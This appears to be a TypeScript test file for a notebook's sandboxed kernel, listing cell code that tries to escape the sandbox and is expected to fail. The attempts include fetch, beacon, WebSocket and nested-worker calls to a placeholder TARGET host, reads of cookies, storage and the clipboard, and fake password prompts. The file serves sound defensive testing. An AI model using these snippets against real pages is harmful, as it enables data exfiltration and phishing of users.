/** Attacks that would send or fetch from within a cell. */
import type {Attack} from "./attack.ts";

const csp = "the sandbox's policy (default-src 'none')";
const missing = "there is no such thing in a kernel's worker";

/** A cell that fails as what it tries fails. */
const attempt = (tries: string, code: string, by = csp): Attack => ({
  tries,
  cell: `(async () => {\n  ${code}\n  return "OPEN";\n})()`,
  by,
  ends: "error",
  trace: /Error|refused|blocked/i,
});

/** Code that settles as a worker's message says. */
const inWorker = (url: string) => `await new Promise((ok, no) => {
    const worker = new Worker(${url});
    worker.onmessage = ({data}) => (data === "open" ? ok() : no(new TypeError("refused: " + data)));
    worker.onerror = (event) => { event.preventDefault(); no(new TypeError("refused")); };
  });`;
const FETCHES = `fetch("TARGET/nested").then(() => postMessage("open"), (error) => postMessage(error.message))`;

export const network: readonly Attack[] = [
  attempt("fetch from elsewhere", `await fetch("TARGET/fetch");`),
  attempt("fetch without asking for an answer", `await fetch("TARGET/blind", {mode: "no-cors"});`),
  attempt("fetch that outlives the page", `await fetch("TARGET/keep", {keepalive: true, method: "POST", body: "x"});`),
  attempt(
    "XMLHttpRequest",
    `await new Promise((ok, no) => {
    const request = new XMLHttpRequest();
    request.onload = ok;
    request.onerror = () => no(new TypeError("refused"));
    request.open("GET", "TARGET/xhr");
    request.send();
  });`,
  ),
  attempt(
    "synchronous XMLHttpRequest",
    `const request = new XMLHttpRequest();
  request.open("GET", "TARGET/sync", false);
  request.send();`,
  ),
  attempt(
    "WebSocket",
    `await new Promise((ok, no) => {
    const socket = new WebSocket("TARGET/socket".replace("http", "ws"));
    socket.onopen = ok;
    socket.onerror = () => no(new TypeError("refused"));
  });`,
  ),
  attempt(
    "EventSource",
    `await new Promise((ok, no) => {
    const source = new EventSource("TARGET/events");
    source.onopen = ok;
    source.onerror = () => no(new TypeError("refused"));
  });`,
  ),
  attempt("WebTransport", `await new WebTransport("TARGET/transport".replace("http", "https")).ready;`),
  attempt("a beacon", `navigator.sendBeacon("TARGET/beacon", "x");`, missing),
  attempt("WebRTC", `new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1"}]});`, missing),
  attempt("importScripts", `importScripts("TARGET/scripts.js");`, "the kernel's worker is a module"),
  attempt(
    "import() of an address",
    `await import("TARGET/module.js");`,
    "cells import only what is shipped or attached",
  ),
  attempt("import() by eval", `await (0, eval)('import("TARGET/eval.js")');`),
  attempt("import() by new Function", `await new Function('return import("TARGET/function.js")')();`),
  attempt(
    "import of a package that is not shipped",
    `await import("npm:left-pad");`,
    "cells import only what is shipped or attached",
  ),
  attempt("a nested worker from an address", inWorker(`"TARGET/worker.js", {type: "module"}`)),
  attempt(
    "a nested worker of ours that fetches",
    inWorker("`data:text/javascript,${encodeURIComponent(code)}`").replace(
      "await new",
      `const code = ${JSON.stringify(FETCHES)};\n  await new`,
    ),
  ),
  attempt(
    "a nested worker from a blob that fetches",
    inWorker("URL.createObjectURL(new Blob([code]))").replace(
      "await new",
      `const code = ${JSON.stringify(FETCHES)};\n  await new`,
    ),
  ),
  attempt("a shared worker", `new SharedWorker("TARGET/shared.js");`, missing),
  attempt("a service worker", `await navigator.serviceWorker.register("TARGET/service.js");`, missing),
  attempt("a font from elsewhere", `await new FontFace("stolen", "url(TARGET/font.woff2)").load();`),
  attempt(
    "a new address for the worker",
    `location.href = "TARGET/location";
  if (!location.href.startsWith("TARGET")) throw new TypeError("refused: the worker's address does not change");`,
    missing,
  ),
  attempt(
    "a module with a source map from elsewhere",
    `await import(URL.createObjectURL(
    new Blob(["export {}\\n//# sourceMappingURL=TARGET/map.json"], {type: "text/javascript"})));
  await fetch("TARGET/after-map");`,
  ),
  attempt("a window", `open("TARGET/window");`, missing),
  attempt(
    "a data file that is not ours",
    `await FileAttachment("../index.html").text();`,
    "the page gives the notebook's own files and the data files known at build time",
  ),
];

export const storage: readonly Attack[] = [
  attempt("localStorage", `localStorage.getItem("secret");`, missing),
  attempt("sessionStorage", `sessionStorage.setItem("a", "b");`, missing),
  attempt("cookies", `document.cookie.split(";");`, missing),
  attempt("the cookie store", `await cookieStore.getAll();`, "an opaque origin has no storage"),
  attempt(
    "IndexedDB, where notebooks are kept",
    `await new Promise((ok, no) => {
    const request = indexedDB.open("nablab");
    request.onsuccess = ok;
    request.onerror = () => no(request.error);
  });`,
    "an opaque origin has no storage",
  ),
  attempt("cache storage", `await caches.open("stolen");`, "removed from kernels"),
  attempt("the file system", `await navigator.storage.getDirectory();`, "an opaque origin has no storage"),
  attempt(
    "an estimate of what is stored",
    `const {usage} = await navigator.storage.estimate();
  if (!usage) throw new TypeError("refused: nothing is stored here");`,
    "an opaque origin has no storage",
  ),
  attempt(
    "locks of other tabs",
    `const {held} = await navigator.locks.query();
  if (!held.length) throw new TypeError("refused: no lock is seen");`,
    "an opaque origin has no locks",
  ),
  attempt("the page's document", `parent.document.title;`, missing),
  attempt("the page's window", `top.location.href;`, missing),
  attempt(
    "the page's address",
    `const said = [location.href, self.origin, new Error().stack, ...performance.getEntries().map(({name}) => name)];
  if (!/https?:/.test(said.join(" "))) throw new TypeError("refused: no address is to be seen");`,
    "the kernel's worker comes from a data: address",
  ),
  attempt("the opener", `opener.postMessage("x", "*");`, missing),
  attempt("the clipboard", `await navigator.clipboard.readText();`, missing),
  attempt("something else in the clipboard", `await navigator.clipboard.writeText("mine");`, missing),
  attempt("the reader's files", `await showOpenFilePicker();`, missing),
  attempt(
    "a notification",
    `new Notification("Your session has expired");
  if (Notification.permission !== "granted") throw new TypeError("refused: permission is " + Notification.permission);`,
    "an opaque origin has no permissions",
  ),
  attempt("the reader's place", `navigator.geolocation.getCurrentPosition(() => {});`, missing),
  attempt("a message box", `alert("Enter your password");`, missing),
  attempt("a question", `prompt("Password?");`, missing),
  attempt("printing", `print();`, missing),
  attempt("the end of the kernel", `self.close();`, "the kernel's own close"),
  attempt(
    "a worker that outlives the cell's kernel by messages",
    `new BroadcastChannel("nablab").postMessage({type: "edit"});
  throw new TypeError("refused: channels of an opaque origin reach nobody");`,
    "an opaque origin shares no channel",
  ),
];
